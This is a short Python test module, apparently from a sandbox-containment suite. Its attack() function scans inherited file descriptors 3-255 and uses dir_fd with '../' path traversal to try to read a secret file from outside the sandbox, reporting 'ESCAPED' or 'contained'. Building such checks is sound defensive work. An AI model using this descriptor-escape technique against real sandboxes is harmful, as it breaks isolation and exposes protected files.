"""Climb from any descriptor that was left open."""

META = {"group": "files"}


def attack():
    for number in range(3, 256):
        for path in (T["secret_file"].lstrip("/"), "../" * 12 + T["secret_file"].lstrip("/")):
            try:
                handle = os.open(path, os.O_RDONLY, dir_fd=number)
            except OSError:
                continue
            if T["secret"].encode() in os.read(handle, 100):
                return f"ESCAPED: through descriptor {number}"
    return "contained"
